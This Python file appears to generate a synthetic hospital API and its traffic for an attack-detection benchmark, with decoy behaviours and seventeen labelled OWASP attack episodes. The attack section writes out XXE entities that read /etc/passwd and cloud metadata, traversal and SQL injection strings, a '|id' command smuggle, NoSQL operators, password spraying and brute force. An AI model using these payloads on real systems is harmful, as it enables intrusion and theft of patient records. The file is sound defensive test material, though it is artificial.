"""A hospital behind a proxy (X-Forwarded-For): string ids, few patients and many staff, opaque bearer tokens, Basic for devices,
SOAP and form bodies; a failed log-in is 200 success:false, a refusal is 200 with a status in the body or a SOAP fault (500)."""
from heldout_core import *

ENV = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>%s</soap:Body></soap:Envelope>'


class Hospital(App):
    server = 'Apache/2.4.57'
    base_lat = .04

    def __init__(s, rng, growth_from):
        super().__init__(rng)
        s.users, s.tok, s.pats, s.appt, s.growth_from = {}, {}, {}, {}, growth_from
        s.na = 55010

    def patient(s, i):
        p = f'PAT-{i:06}'
        s.pats[p] = dict(id=p, mrn=f'MRN{i * 37 % 99991:05}', docs=[f'DOC-{s.rng.randint(100000, 999999)}' for _ in range(s.rng.randint(1, 5))], rx=[f'RX-2026-{s.rng.randint(1000, 99999):05}' for _ in range(2)])
        return p

    def user(s, login, role, pat=None):
        u = dict(login=login, pw=f'{s.rng.choice(WORDS).title()}@{s.rng.randint(100, 999)}', role=role, pat=pat)
        s.users[login] = u
        return u

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'any')
        a = rq.h.get('authorization', '')
        u = None
        if a.startswith('Bearer '):
            u = s.tok.get(a[7:])
        elif a.startswith('Basic '):
            try:
                n, _, p = base64.b64decode(a[6:] + '==').decode().partition(':')
            except ValueError:
                n = p = ''
            u = s.users.get(n)
            u = u if u and u['pw'] == p else None
        if u:
            rq.u, rq.user = u, u['login']
        if need == 'none':
            return None
        if not u:
            return Rs(401, {'success': False, 'message': 'Session expired'}, {'WWW-Authenticate': 'Basic realm="HIS"'} if 'basic' in kw else {})
        if need == 'staff' and u['role'] == 'patient':
            return Rs(200, {'success': False, 'status': 'DENIED', 'message': 'Not permitted for this role'})

    def not_found(s, rq):
        return Rs(404, '<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"><html><head><title>404 Not Found</title></head><body>Not Found</body></html>', ct='text/html')

    @route('POST', '/portal/login', auth='none')
    def login(s, rq):
        j = rq.json
        u = s.users.get(str(j.get('userId'))) if isinstance(j, dict) else None
        if not u or u['pw'] != j.get('password'):
            return Rs(200, {'success': False, 'message': 'Invalid user id or password'}, lat=.15)
        k = s.rng.randbytes(20).hex()
        s.tok[k] = u
        return Rs(200, {'success': True, 'token': k, 'role': u['role']}, lat=.15)

    @route('POST', '/portal/forgot', auth='none')
    def forgot(s, rq):
        return (200, {'success': True, 'message': 'Link sent to registered mobile'}) if rq.form.get('userId') in s.users else (200, {'success': False, 'message': 'User id not registered'})

    @route('POST', '/portal/password', auth='any')
    def password(s, rq):
        ok = rq.form.get('old') == rq.u['pw']
        if ok:
            rq.u['pw'] = rq.form.get('new')
        return 200, {'success': ok}

    def pat(s, p):
        r = random.Random(p)
        o = dict(patientId=p, name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(), sex=r.choice('MF'), birthDate=f'19{r.randint(30, 99)}-{r.randint(1, 9):02}-{r.randint(10, 28)}', bloodGroup=r.choice(['A+', 'B+', 'O+']), allergies=r.choice([[], ['penicillin']]))
        return o

    @route('GET', '/portal/patients/{id}')
    def patient_(s, rq, p):
        return (200, dict(success=True, data=s.pat(p))) if p in s.pats else (200, {'success': False, 'message': 'No such patient'})

    @route('GET', '/portal/patients/{id}/vitals')
    def vitals(s, rq, p):
        return 200, {'success': True, 'data': [dict(t=int(rq.now) - k * 3600, hr=s.rng.randint(60, 110), bp='120/80', spo2=s.rng.randint(92, 100)) for k in range(6)]}

    @route('POST', '/portal/patients/{id}/vitals', auth='staff')
    def nvitals(s, rq, p):
        return 200, {'success': True}

    @route('GET', '/portal/patients/{id}/documents')
    def docs(s, rq, p):
        return (200, {'success': True, 'data': [dict(docId=d, title='Lab report') for d in s.pats[p]['docs']]}) if p in s.pats else (200, {'success': False, 'message': 'No such patient'})

    @route('GET', '/portal/documents')
    def doc(s, rq):
        d = rq.q.get('docId', '')
        if not re.fullmatch(r'DOC-\d{6}', d):
            return Rs(500, '<h1>Internal Server Error</h1>', ct='text/html') if '..' in d else (200, {'success': False, 'message': 'No such document'})
        return Rs(200, b'%PDF-1.5\n' + random.Random(d).randbytes(3000), ct='application/pdf')

    @route('GET', '/portal/appointments')
    def appts(s, rq):
        r = random.Random(rq.q.get('patientId', '') + rq.q.get('date', ''))
        o = [dict(apptId=f'APT{r.randint(50000, 59999)}', dept=r.choice(['OPD', 'CARDIO', 'ENT']), slot=f'{r.randint(9, 17)}:00') for _ in range(3)]
        if s.growth_from and rq.now > s.growth_from:
            for x in o:
                x.update(patientMobile=f'+91 9{r.randint(100000000, 999999999)}', aadhaar=f'{r.randint(2000, 9999)} {r.randint(1000, 9999)} {r.randint(1000, 9999)}', patientEmail=f'{r.choice(FIRST)}{r.randint(1, 99)}@mail.example', birthDate=f'19{r.randint(40, 99)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}')
        return 200, {'success': True, 'data': o}

    @route('POST', '/portal/appointments')
    def nappt(s, rq):
        s.na += 1
        return 200, {'success': True, 'apptId': f'APT{s.na}', 'fee': 500}

    @route('POST', '/portal/appointments/pay')
    def apay(s, rq):
        return 200, {'success': True, 'receipt': f'R{s.rng.randint(1, 10**6)}'}

    @route('POST', '/portal/appointments/confirm')
    def aconf(s, rq):
        return 200, {'success': True, 'status': 'CONFIRMED'}

    @route('POST', '/portal/prescriptions/{id}/refill')
    def refill(s, rq, i):
        return 200, {'success': True, 'rx': i, 'status': 'REQUESTED'}

    @route('POST', '/portal/profile')
    def profile(s, rq):
        return 200, {'success': True}

    @route('GET', '/staff/worklist', auth='staff')
    def worklist(s, rq):
        return 200, {'success': True, 'data': [dict(patientId=p, bed=f'W{k}') for k, p in enumerate(s.rng.sample(list(s.pats), 8))]}

    @route('GET', '/staff/search', auth='staff')
    def search(s, rq):
        return 200, {'success': True, 'data': [dict(patientId=p) for p in s.rng.sample(list(s.pats), 3)]}

    @route('POST', '/staff/orders', auth='staff')
    def orders(s, rq):
        return 200, {'success': True, 'orderId': f'ORD{s.rng.randint(10000, 99999)}'}

    @route('POST', '/staff/discharge', auth='staff')
    def discharge(s, rq):
        return 200, {'success': True}

    @route('GET', '/staff/reports/census', auth='staff')
    def census(s, rq):
        try:
            n = int(rq.q.get('rows', 100))
        except ValueError:
            n = 100
        return Rs(200, {'success': True, 'rows': [[s.rng.randint(1, 99), s.rng.randint(1, 99)] for _ in range(min(n, 3000))]}, lat=.05 + n / 6000)

    @route('POST', '/soap/PatientService', auth='none')
    def soap(s, rq):
        b = (rq.body or b'').decode('utf-8', 'replace')
        if '<!DOCTYPE' in b:
            return Rs(500, ENV % '<soap:Fault><faultcode>soap:Client</faultcode><faultstring>DTD is not allowed</faultstring></soap:Fault>', ct='text/xml; charset=utf-8')
        if not rq.user:
            return Rs(500, ENV % '<soap:Fault><faultcode>wsse:FailedAuthentication</faultcode><faultstring>The security token could not be authenticated</faultstring></soap:Fault>', ct='text/xml; charset=utf-8')
        m = re.search(r'<patientId>(.*?)</patientId>', b)
        p = m.group(1) if m else ''
        if p not in s.pats:
            return Rs(500, ENV % '<soap:Fault><faultcode>soap:Server</faultcode><faultstring>Unknown patient</faultstring></soap:Fault>', ct='text/xml; charset=utf-8')
        d = s.pat(p)
        return Rs(200, ENV % f'<GetPatientResponse><patient><id>{p}</id><name>{d["name"]}</name><birthDate>{d["birthDate"]}</birthDate></patient></GetPatientResponse>', ct='text/xml; charset=utf-8')

    @route('POST', '/device/observations', auth='any', basic=1)
    def obs(s, rq):
        return 200, {'ack': True}

    @route('GET', '/fhir/Patient/{id}', auth='none')
    def fhir(s, rq, p):
        return (200, dict(resourceType='Patient', id=p, name=[{'text': s.pat(p)['name']}], birthDate=s.pat(p)['birthDate'], telecom=[{'system': 'phone', 'value': f'+91 98{int(p[4:]) * 991 % 10**8:08}'}])) if p in s.pats else (404, {'resourceType': 'OperationOutcome'})

    @route('GET', '/internal/audit/dump', auth='none')
    def audit(s, rq):
        return Rs(200, '\n'.join(f'{int(rq.now) - k},{s.rng.choice(list(s.users))},VIEW,{s.rng.choice(list(s.pats))}' for k in range(80)), ct='text/csv')

    @route('GET', '/health', auth='none')
    def health(s, rq):
        return Rs(200, 'OK')

    @route('GET', '/portal/queue-status', auth='none')
    def queue(s, rq):
        return 200, {'waiting': s.rng.randint(0, 40)}


def build(name, seed, attacks, start='2026-10-05', days=10):
    st = ts(start)
    app = Hospital(random.Random(seed + 1), st + 7 * DAY + 3 * HOUR if attacks else None)
    S = Sim(name, 'Sanjeevani: hospital information system, synthetic', st, days, '10.200.3.30', 8081, 'his.sanjeevani.example', app, seed, 5.5)
    r = S.rng
    PX = '10.200.0.2'
    for d in ('D-ward shared_terminal', 'D-staff staff_reads_many', 'D-probe monitor_probe', 'D-device device_stream', 'D-lab lab_partner_soap', 'D-night nightly_job', 'D-new partner_onboarding', 'D-outage outage_retry_storm', 'D-family family_account', 'D-forget forgetful_user', 'D-pwday password_day', 'D-feature new_endpoint', 'D-audit record_audit', 'D-roam roaming_user', 'D-loc locum_first_day'):
        S.decoy(*d.split(), d.split()[1].replace('_', ' '))
    pats = [app.patient(i) for i in sorted(r.sample(range(100, 9000), 420))]
    puser = [app.user(f'9198{r.randint(10000000, 99999999)}', 'patient', p) for p in r.sample(pats, 90)]
    staff = [app.user(f'EMP{1000 + i * 3}', r.choice(['nurse', 'doctor', 'clerk'])) for i in range(36)]
    dev = [app.user(f'mon-icu-{i:02}', 'device') for i in range(5)]
    lab = app.user('labcorp', 'partner')
    lab2 = app.user('insure-tpa', 'partner')
    out0 = S.local(5, 11)
    app.down = [(out0, out0 + 30 * MIN)]
    feature = st + 6 * DAY
    basic = lambda u: 'Basic ' + base64.b64encode(f'{u["login"]}:{u["pw"]}'.encode()).decode()

    def client(src, ua, u, **k):
        return Client(PX, ua, u['login'] if u else None, xff=src, **k)

    def login(cl, u, pw=None, **k):
        rs = S.call(cl, 'POST', '/portal/login', js=dict(userId=u['login'], password=pw or u['pw']), ident=u['login'], **k)
        if rs.st == 200 and rs.body.get('success'):
            cl.h['Authorization'] = 'Bearer ' + rs.body['token']
            cl.since = S.now
            return True

    def signed(cl, u):
        if 'Authorization' in cl.h and S.now - cl.since < 9 * HOUR:
            return
        cl.h.pop('Authorization', None)
        for _ in range(r.randint(2, 5) if u.get('forget') else int(r.random() < .05)):
            login(cl, u, u['pw'] + '1', dc='D-forget')
            yield r.uniform(5, 20)
        k = 0
        while not login(cl, u) and k < 5:
            k += 1
            yield 2 ** k

    def psession(cl, u):
        yield from signed(cl, u)
        if 'Authorization' not in cl.h:
            return
        p = u['pat']
        g = lambda m, q, **k: S.call(cl, m, q, **k)
        k = 0
        rs = g('GET', f'/portal/patients/{p}')
        while rs.st == 503 and k < 6:
            yield 2 ** k
            k += 1
            rs = g('GET', f'/portal/patients/{p}', dc='D-outage')
        for _ in range(r.randint(1, 4)):
            yield r.lognormvariate(2, .8)
            x = r.random()
            pp = u['child'] if u.get('child') and r.random() < .5 else p
            if pp != p:
                g('GET', f'/portal/patients/{pp}', dc='D-family')
            if x < .3:
                g('GET', f'/portal/patients/{pp}/documents')
                yield 4
                g('GET', f'/portal/documents?docId={r.choice(app.pats[pp]["docs"])}')
            elif x < .45:
                g('GET', f'/portal/patients/{pp}/vitals')
            elif x < .65:
                g('GET', f'/portal/appointments?patientId={pp}')
            elif x < .85:
                a = g('POST', '/portal/appointments', form=dict(patientId=pp, dept=r.choice(['OPD', 'CARDIO', 'ENT', 'ORTHO']), date=f'2026-10-{r.randint(10, 30)}', reason=r.choice(['fever', 'follow-up', "child's cough", 'knee pain (left) & swelling', ''])))
                if a.st == 200:
                    yield r.uniform(5, 30)
                    g('POST', '/portal/appointments/pay', form=dict(apptId=a.body['apptId'], amount='500', mode=r.choice(['upi', 'card'])))
                    yield 3
                    g('POST', '/portal/appointments/confirm', form=dict(apptId=a.body['apptId']))
            elif x < .93:
                g('POST', f'/portal/prescriptions/{r.choice(app.pats[pp]["rx"])}/refill', form=dict(qty=str(r.choice([10, 30, 60]))))
            elif x < .97:
                g('POST', '/portal/profile', form=dict(mobile=u['login'], language=r.choice(['en', 'hi'])))
            elif S.now > feature:
                g('GET', '/portal/queue-status', dc='D-feature')

    for i, u in enumerate(puser):
        src = f'49.36.{i // 50}.{i % 50 * 4 + 7}'
        cl = u['cl'] = client(src, (['HISApp/2.4 (Android)', 'HISApp/2.4 (iOS)'] + WEB[3:])[i % 3], u)
        u['forget'] = i in (11, 50)
        if i % 9 == 0:
            u['child'] = r.choice(pats)
        for t in S.human_starts(r.choice([.2, .4, .8, 1.4]), peaks=((9, 2), (14, 2), (20, 2))):
            def one(t=t, cl=cl, u=u, i=i, src=src):
                if i == 40:
                    x = 4 < (t - st) / DAY < 6
                    cl.xff, cl.dc = ('103.7.8.9', 'D-roam') if x else (src, None)
                if r.random() < .03:
                    S.call(cl, 'POST', '/portal/forgot', form=dict(userId=u['login']))
                    yield 30
                yield from psession(cl, u)
            S.spawn(t, one())

    def shift(u, i, d, h, n):
        cl = u['cl']
        cl.xff = f'10.200.{40 + r.randint(0, 5)}.{r.choice([11, 12, 13])}'    # ward terminals are shared
        yield from signed(cl, u)
        end = S.now + 8 * HOUR
        ward = r.sample(pats, 12)
        while S.now < end:
            rs = S.call(cl, 'GET', '/staff/worklist')
            k = 0
            while rs.st == 503 and k < 6:
                yield 5
                k += 1
                rs = S.call(cl, 'GET', '/staff/worklist', dc='D-outage')
            yield r.uniform(4, 30)
            for p in r.sample(ward, r.randint(1, 4)) + r.sample(pats, r.randint(0, 1)):
                S.call(cl, 'GET', f'/portal/patients/{p}')
                yield r.uniform(3, 30)
                if u['role'] == 'nurse':
                    S.call(cl, 'POST', f'/portal/patients/{p}/vitals', js=dict(hr=r.randint(60, 110), bp=f'{r.randint(100, 150)}/{r.randint(60, 95)}', spo2=r.randint(92, 100)))
                else:
                    S.call(cl, 'GET', f'/portal/patients/{p}/vitals')
                    if r.random() < .4:
                        yield 10
                        S.call(cl, 'GET', f'/portal/patients/{p}/documents')
                        yield 3
                        S.call(cl, 'GET', f'/portal/documents?docId={r.choice(app.pats[p]["docs"])}')
                yield r.uniform(5, 60)
            x = r.random()
            if u['role'] == 'doctor' and x < .4:
                S.call(cl, 'POST', '/staff/orders', js=dict(patientId=p, test=r.choice(['CBC', 'LFT', 'X-RAY']), note=r.choice(['stat', '', 'r/o TB; repeat in 2/52'])))
            elif x < .1:
                S.call(cl, 'POST', '/staff/discharge', js=dict(patientId=p, summary='stable'))
            elif x < .2:
                S.call(cl, 'GET', '/staff/search?q=' + quote(r.choice(FIRST)[:4]))
            elif x < .23:
                S.call(cl, 'GET', '/staff/reports/census?rows=100')
            yield r.expovariate(1 / n)
    for i, u in enumerate(staff):
        u['cl'] = client('10.200.40.11', WEB[i % 3], u, dc='D-staff')
        first = 6 if i >= 34 else 0
        if i >= 34:
            u['cl'].dc = 'D-loc'
        for d in range(first, days):
            if (d + i) % 7 >= 5:
                continue
            S.spawn(S.local(d, [7, 15, 23][i % 3] + r.random() * .5), shift(u, i, d, 0, 2400))

    def device(u, i):
        cl = client(f'10.200.60.{i + 5}', 'PhilipsGW/4.1', u, dc='D-device', headers={'Authorization': basic(u)})
        while True:
            S.call(cl, 'POST', '/device/observations', js=dict(dev=u['login'], patientId=pats[i * 5], hr=r.randint(55, 120), spo2=r.randint(90, 100), t=int(S.now)))
            yield 900 + r.random() * 3
    for i, u in enumerate(dev):
        S.spawn(st + 10 + i * 30, device(u, i))

    def soapreq(p):
        return (ENV % f'<GetPatient xmlns="urn:his"><patientId>{p}</patientId></GetPatient>').encode()

    def partner(u, src, dc, first, n):
        cl = client(src, 'Apache-CXF/3.5', u, dc=dc, headers={'Authorization': basic(u), 'SOAPAction': '"urn:his#GetPatient"'})
        yield first * DAY
        while True:
            h = (S.now - st) / HOUR + 5.5
            if 8 < h % 24 < 19:
                S.call(cl, 'POST', '/soap/PatientService', body=soapreq(r.choice(pats)), ct='text/xml; charset=utf-8')
            yield r.expovariate(1 / n)
    S.spawn(st + 60, partner(lab, '14.98.7.20', 'D-lab', 0, 700))
    S.spawn(st + 90, partner(lab2, '115.110.4.9', 'D-new', 5, 900))

    def night():
        cl = client('10.200.9.9', 'his-batch/1.0', None, dc='D-night')
        cl.ident = 'svc:batch'
        yield max(0, S.local(0, 2) - S.now)
        while True:
            for p in pats[::3]:
                S.call(cl, 'GET', f'/fhir/Patient/{p}')
                yield .5
            S.call(cl, 'GET', '/internal/audit/dump')
            yield DAY - len(pats[::3]) * .6
    S.spawn(st + 1, night())

    def probe():
        cl = Client(PX, 'haproxy-check', 'probe', dc='D-probe')
        while True:
            S.call(cl, 'GET', '/health')
            yield 450
    S.spawn(st + 2, probe())

    def audit(u):
        """records department checks 110 files in an afternoon"""
        yield from signed(u['cl'], u)
        for p in r.sample(pats, 110):
            S.call(u['cl'], 'GET', f'/portal/patients/{p}', dc='D-audit')
            yield r.uniform(10, 60)
    S.spawn(S.local(8, 13), audit(staff[2]))

    def pwday(u):
        yield from signed(u['cl'], u)
        new = f'{r.choice(WORDS).title()}#{r.randint(100, 999)}'
        if r.random() < .3:
            S.call(u['cl'], 'POST', '/portal/password', form=dict(old='bad', new=new), dc='D-pwday')
            yield 5
        S.call(u['cl'], 'POST', '/portal/password', form=dict(old=u['pw'], new=new), dc='D-pwday')
        yield 5
        for _ in range(r.choice([0, 0, 1, 2])):
            login(u['cl'], u, 'Old@' + u['login'], dc='D-pwday')
            yield 8
        login(u['cl'], u)
    for u in staff[:34]:
        S.spawn(S.local(4, r.uniform(8, 12)), pwday(u))
    if attacks:
        attack(S, app, pats, puser, staff, client, login, basic, soapreq, lab)
    S.run()
    return S


def attack(S, app, pats, puser, staff, client, login, basic, soapreq, lab):
    r, st, E = S.rng, S.start, S.episode
    E('H01', 'bola_enumeration', 'API1:2023', 'actor', 'easy', 'patient walks PAT numbers upward, 170 in 15 minutes; misses answer 200 success:false')
    E('H02', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard', 'patient downloads documents of others by docId parameter, two an hour for four days')
    E('H03', 'bola_write_refill', 'API1:2023', 'actor', 'medium', 'patient requests refills on 16 prescriptions of others')
    E('H04', 'password_spraying', 'API2:2023', 'endpoint', 'hard', 'one password against all staff numbers from 3 addresses, 200 success:false')
    E('H05', 'brute_force_basic', 'API2:2023', 'actor', 'easy', '120 passwords for a device account by Basic')
    E('H06', 'user_enumeration', 'API2:2023', 'actor', 'medium', 'forgot-password tells registered mobile numbers: 220 tried')
    E('H07', 'unauthenticated_private_object', 'API2:2023', 'actor+endpoint', 'medium', 'FHIR patient, used only by the internal job, is read from outside without credentials')
    E('H08', 'bfla_probe_denied', 'API5:2023', 'actor', 'medium', 'patient tries staff functions, 200 DENIED')
    E('H09', 'stolen_token', 'API2:2023', 'actor', 'hard', 'nurse token used from outside with another client during her shift')
    E('H10', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium', 'appointments answer starts to carry mobile, Aadhaar number, e-mail and birth date')
    E('H11', 'injection_xxe_soap', 'API8:2023', 'actor', 'medium', 'external entities in SOAP bodies')
    E('H12', 'injection_traversal', 'API8:2023', 'actor', 'medium', 'traversal in docId, SQL in search')
    E('H13', 'internal_endpoint_external', 'API9:2023', 'actor+endpoint', 'medium', 'audit dump from outside')
    E('H14', 'flow_skip_payment', 'API6:2023', 'actor', 'hard', 'appointments confirmed without payment, 8 times')
    E('H15', 'application_dos', 'API4:2023', 'actor+endpoint', 'medium', 'census with rows=60000')
    E('H16', 'content_discovery', 'API9:2023', 'actor', 'easy', '240 paths in a minute')
    E('H17', 'api_fuzzing', 'API8:2023', 'actor', 'easy', '260 malformed bodies and types over all functions')

    def evil(u, src, ua, ep):
        cl = client(src, ua, u, ep=ep)
        login(cl, u)
        return cl

    def h01():
        cl = evil(puser[20], puser[20]['cl'].xff, 'python-requests/2.31.0', 'H01')
        for i in range(3000, 3170):
            yield r.uniform(2, 8)
            S.call(cl, 'GET', f'/portal/patients/PAT-{i:06}')
    S.spawn(S.local(6, 22), h01())

    def h02():
        u = puser[21]
        for d in (4, 5, 6, 7):
            yield max(0, S.local(d, 9) - S.now)
            cl = evil(u, u['cl'].xff, u['cl'].ua, 'H02')
            for _ in range(26):
                yield r.uniform(1000, 2400)
                if S.now - cl.since > 8 * HOUR:
                    login(cl, u)
                S.call(cl, 'GET', f'/portal/documents?docId={r.choice(app.pats[r.choice(pats)]["docs"])}')
    S.spawn(S.local(4, 8.5), h02())

    def h03():
        u = puser[22]
        cl = evil(u, u['cl'].xff, u['cl'].ua, 'H03')
        for p in r.sample(pats, 16):
            yield r.uniform(10, 60)
            S.call(cl, 'POST', f'/portal/prescriptions/{app.pats[p]["rx"][0]}/refill', form=dict(qty='60'))
    S.spawn(S.local(7, 16), h03())

    def h04():
        cls = [client(f'192.0.2.{80 + i}', WEB[i], None, ep='H04') for i in range(3)]
        for e in [f'EMP{n}' for n in range(1000, 1110, 2)]:
            S.call(r.choice(cls), 'POST', '/portal/login', js=dict(userId=e, password='Hospital@123'), ident=e)
            yield r.uniform(400, 1300)
    S.spawn(S.local(5, 4), h04())

    def h05():
        cl = client('192.0.2.90', 'Hydra', None, ep='H05')
        for _ in range(120):
            S.call(cl, 'POST', '/device/observations', js={}, h={'Authorization': 'Basic ' + base64.b64encode(f'mon-icu-01:{r.choice(WORDS)}{r.randint(1, 99)}'.encode()).decode()}, ident='mon-icu-01')
            yield r.uniform(.5, 3)
    S.spawn(S.local(6, 3), h05())

    def h06():
        cl = client('192.0.2.91', WEB[0], None, ep='H06')
        for _ in range(220):
            S.call(cl, 'POST', '/portal/forgot', form=dict(userId=r.choice(puser)['login'] if r.random() < .06 else f'9198{r.randint(10000000, 99999999)}'))
            yield r.uniform(2, 7)
    S.spawn(S.local(8, 4), h06())

    def h07():
        cl = client('185.100.87.3', 'curl/8.5.0', None, ep='H07')
        for p in r.sample(pats, 60):
            S.call(cl, 'GET', f'/fhir/Patient/{p}')
            yield r.uniform(10, 90)
    S.spawn(S.local(7, 1), h07())

    def h08():
        u = puser[23]
        cl = evil(u, u['cl'].xff, u['cl'].ua, 'H08')
        for m, p in (('GET', '/staff/worklist'), ('GET', '/staff/search?q=amit'), ('GET', '/staff/reports/census?rows=10'), ('POST', '/staff/orders'), ('POST', '/staff/discharge'), ('GET', '/staff/worklist'), ('POST', '/staff/discharge')):
            yield r.uniform(8, 40)
            S.call(cl, m, p, js=dict(patientId=u['pat'], summary='x') if m == 'POST' else None)
    S.spawn(S.local(6, 19), h08())

    def h09():
        u = staff[0]
        yield 2 * HOUR
        cl = client('45.134.26.7', 'python-requests/2.31.0', u, ep='H09', headers={'Authorization': u['cl'].h.get('Authorization')})
        for p in r.sample(pats, 25):
            S.call(cl, 'GET', f'/portal/patients/{p}')
            yield r.uniform(200, 900)
    d = next(d for d in range(7, 10) if (d + 0) % 7 < 5)
    S.spawn(S.local(d, 7.6), h09())

    def h11():
        cl = client('192.0.2.92', 'SoapUI/5.7', None, ep='H11')
        for e in ('file:///etc/passwd', 'file:///c:/windows/win.ini', 'http://198.18.5.5/x.dtd', 'http://169.254.169.254/latest/', 'expect://id'):
            yield r.uniform(20, 80)
            S.call(cl, 'POST', '/soap/PatientService', body=(f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "{e}">]>' + soapreq('&xxe;').decode().split('?>', 1)[1]).encode(), ct='text/xml; charset=utf-8')
    S.spawn(S.local(5, 20), h11())

    def h12():
        u = puser[24]
        cl = evil(u, u['cl'].xff, u['cl'].ua, 'H12')
        for x in ('../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//web.config', "DOC-1' OR 1=1--", "DOC-1' AND SLEEP(5)#", '|id', '%00../../boot.ini'):
            yield r.uniform(20, 120)
            S.call(cl, 'GET', '/portal/documents?docId=' + quote(x, safe='%./'))
    S.spawn(S.local(6, 12), h12())

    def h13():
        cl = client('91.92.240.8', 'Wget/1.21', None, ep='H13')
        for _ in range(4):
            S.call(cl, 'GET', '/internal/audit/dump')
            yield r.uniform(500, 9000)
    S.spawn(S.local(8, 9), h13())

    def h14():
        u = puser[25]
        cl = evil(u, u['cl'].xff, u['cl'].ua, 'H14')
        for _ in range(8):
            yield r.uniform(60, 600)
            a = S.call(cl, 'POST', '/portal/appointments', form=dict(patientId=u['pat'], dept='OPD', date='2026-10-20', reason='')).body['apptId']
            yield 4
            S.call(cl, 'POST', '/portal/appointments/confirm', form=dict(apptId=a))
    S.spawn(S.local(8, 20), h14())

    def h15():
        u = staff[4]
        cl = evil(u, '10.200.45.77', WEB[0], 'H15')
        for _ in range(25):
            yield r.uniform(10, 30)
            S.call(cl, 'GET', '/staff/reports/census?rows=60000')
    S.spawn(S.local(6, 2), h15())

    def h16():
        cl = client('192.0.2.93', 'gobuster/3.6', None, ep='H16')
        for p in [f'/{a}{b}' for a in ('', 'portal/', 'staff/', 'his/', 'api/', 'old/', 'soap/', 'app/') for b in WORDS + ['admin', '.env', 'web.config', 'backup.bak', 'phpmyadmin', 'server-status']][:240]:
            S.call(cl, 'GET', p)
            yield .25
    S.spawn(S.local(3, 3), h16())

    def h17():
        u = puser[26]
        cl = evil(u, '192.0.2.94', 'python-requests/2.28', 'H17')
        ps = ('/portal/login', '/portal/appointments', '/portal/profile', '/portal/appointments/pay', '/staff/orders', '/portal/patients/PAT-000100/vitals', '/device/observations', '/portal/nothing', '/soap/PatientService')
        bad = [b'{', b'[]', b'{"a":' * 30, b'null', b'{"userId":[]}', b'{"userId":{"$ne":1}}', b'\x00\xff\xfe', b'A' * 3000, b'{"userId":1e999}', '{"x":"\u202e\ufeff"}'.encode(), b'<a/>', b'-1', b'{"qty":-99999999999999999999}']
        for _ in range(260):
            S.call(cl, r.choice(['POST', 'POST', 'PUT', 'PATCH', 'DELETE']), r.choice(ps), body=r.choice(bad), ct=r.choice(['application/json', 'text/plain', 'application/xml']))
            yield r.uniform(.2, 1)
    S.spawn(S.local(4, 2), h17())
    real = S.call

    def call(cl, m, url, **k):
        if url.startswith('/portal/appointments?') and m == 'GET' and S.now > app.growth_from and not cl.ep:
            k['ep'] = 'H10'
        return real(cl, m, url, **k)
    S.call = call
